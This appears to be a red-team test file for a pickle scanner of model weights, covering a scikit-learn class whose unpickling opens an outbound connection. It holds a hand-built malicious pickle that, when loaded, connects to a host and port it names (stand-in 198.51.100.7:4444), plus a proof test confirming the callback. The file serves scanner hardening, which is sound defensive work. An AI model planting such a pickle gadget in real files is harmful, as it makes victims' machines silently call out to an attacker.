"""Allowlisted classes whose unpickling reaches the network (red team).

scikit-learn 1.9's ``ScoringMonitor.__setstate__`` calls ``can_reuse_listener`` on the
pickled ``ListenerHandle``, which opens ``multiprocessing.connection.Client(address)``:
an outbound connection to any host and port the pickle names (and, failing that, a
socket listener with two threads). The generator's source check reads only the class's
own methods, not the helpers they call, so the class was allowlisted and such a pickle
scanned clean.
"""

from __future__ import annotations

import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fixtures.archives import rules_of, scan_bytes
from tests.scanner.redteam.build import g, s
from weightscan.scanner import Verdict
from weightscan.scanner.pickle import policy


def scoring_monitor_calling(host: str, port: int) -> bytes:
    handle = (
        g("sklearn.callback._transport", "ListenerHandle")
        + s(host)
        + b"M"
        + port.to_bytes(2, "little")
        + b"\x86"
        + b"C\x01k\x86R"
    )
    state = b"}(" + s("_listener_handle") + handle + s("_log") + b"]" + s("_scoring") + b"Nu"
    return (
        b"\x80\x04"
        + g("sklearn.callback._scoring_monitor", "ScoringMonitor")
        + b")\x81"
        + state
        + b"b."
    )


@pytest.mark.parametrize(
    "path",
    [
        "sklearn.callback._scoring_monitor.ScoringMonitor",
        "sklearn.callback.ScoringMonitor",
        "sklearn.callback._progressbar.RichProgressMonitor",
    ],
)
def test_network_and_thread_classes_are_not_allowed(path: str) -> None:
    module, name = path.rsplit(".", 1)
    assert policy.classify(module, name).decision is not policy.Decision.ALLOWED


def test_scoring_monitor_pickle_is_not_clean() -> None:
    report = scan_bytes(scoring_monitor_calling("198.51.100.7", 4444), name="m.pkl")
    assert report.verdict is not Verdict.CLEAN
    assert "pickle.import.unknown" in rules_of(report)


def test_proof_unpickling_connects_out(tmp_path: Path) -> None:
    pytest.importorskip("sklearn.callback._scoring_monitor")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(30)
    path = tmp_path / "m.pkl"
    path.write_bytes(scoring_monitor_calling("127.0.0.1", server.getsockname()[1]))
    child = subprocess.Popen(
        [sys.executable, "-c", "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))", str(path)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        conn, _ = server.accept()  # the unpickling process connected to us
        conn.close()
    finally:
        server.close()
        child.kill()
        child.wait()
